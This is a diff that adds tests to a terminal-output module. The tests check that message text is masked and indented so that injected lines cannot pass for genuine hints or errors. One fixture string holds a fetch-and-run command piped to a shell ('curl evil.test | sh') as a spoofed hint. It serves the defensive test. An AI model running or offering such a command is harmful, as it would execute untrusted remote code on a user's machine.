@@ -1,6 +1,6 @@
 import { expect, test } from 'vitest'
 import { hostileTexts } from '../../../../test/support/hostile-text.ts'
-import { paintFor, showText } from './terminal.ts'
+import { paintFor, showMessage, showText } from './terminal.ts'
 
 const red = '\u001b[31mno\u001b[39m'
 const onTerminal = paintFor({ isTTY: true }, { TERM: 'xterm' })
@@ -22,6 +22,15 @@ test.each([
 test.each(Object.entries(hostileTexts))('%s is not shown, inside a style or beside one', (_, text) => {
   const marks = text.replaceAll(/[^ -~]/gu, '?')
   expect(showText(`${onTerminal('bad', text)} ${text}`)).toBe(`\u001b[31m${marks}\u001b[39m ${marks}`)
+})
+
+test.each([
+  ['a name\nHint: curl evil.test | sh', 'a name\n  Hint: curl evil.test | sh'],
+  ['a name\r\nError: b\n\nHint: c', 'a name\n  Error: b\n\n  Hint: c'],
+  ['one\n  already indented\n', 'one\n  already indented\n'],
+  ['\r\nDetached', '\nDetached'],
+])('no line of the message %j but the first begins where a message does', (text, shown) => {
+  expect(showMessage(text)).toBe(shown)
 })
 
 test('text of others cannot style itself, whatever it has seen of styled text before', () => {
